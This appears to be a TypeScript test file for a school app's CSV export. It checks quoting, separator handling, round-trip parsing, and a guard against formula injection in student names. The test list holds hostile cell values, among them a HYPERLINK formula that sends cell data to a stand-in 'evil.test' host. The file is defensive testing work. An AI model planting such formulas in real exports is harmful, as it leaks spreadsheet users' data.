import fc from 'fast-check'
import Papa from 'papaparse'
import t from 'tap'
import { type CsvCell, csvText } from '../../../client/ui/csv.ts'
import { withoutFormulaGuard } from '../../../shared/rules/formula-cells.ts'

/** A file's rows as a reader that knows of the guard has them: everything text, empty cells empty. */
const readBack = (text: string): string[][] =>
  Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { delimiter: ',', newline: '\r\n' }).data.map((row) =>
    row.map(withoutFormulaGuard),
  )

const written = (rows: readonly (readonly CsvCell[])[]) =>
  csvText({ header: ['a'], rows })
    .split('\r\n')
    .slice(1)

t.test('numbers stay numbers, texts are quoted only if necessary', async (t) => {
  t.same(
    written([
      ['Amara Okafor', 57, -0.5, null, '2 of 4'],
      ['Smith, "Jo"', 0],
    ]),
    ['Amara Okafor,57,-0.5,,2 of 4', '"Smith, ""Jo""",0'],
  )
  t.equal(csvText({ header: ['Names', '3OA'], rows: [] }), '\ufeffNames,3OA')
})

t.test('no name of a student or class can become a formula', async (t) => {
  for (const name of [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '=HYPERLINK("http://evil.test?"&A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '＝1',
  ]) {
    const [line = ''] = csvText({ header: [name], rows: [] })
      .slice(1)
      .split(/\r\n/)
    t.match(line, /^"'/, JSON.stringify(name))
  }
  for (const name of ["D'Angelo", 'Anne-Marie', '3OA', 'x=1', "'t Hooft"])
    t.same(written([[name]]), [name], 'what only looks like one a little stays as it is')
})

t.test('no name is split into cells by another separator', async (t) => {
  t.same(written([['Jo;=1+1', 'Jo\t=1+1', 'Jo']]), ['"Jo;=1+1","Jo\t=1+1",Jo'])
})

t.test('everything written can be read back cell by cell', async () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom("'", '=', '-', '"', ',', '\r', '\n', '\t', ' ', 'a', '＝') }),
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.constant(null),
  )
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell, cell), { maxLength: 8 }), (rows) => {
      const back = readBack(csvText({ header: ['a', 'b', 'c'], rows }))
      const expected = [['a', 'b', 'c'], ...rows.map((row) => row.map((one) => String(one ?? '')))]
      return JSON.stringify(back) === JSON.stringify(expected)
    }),
  )
})
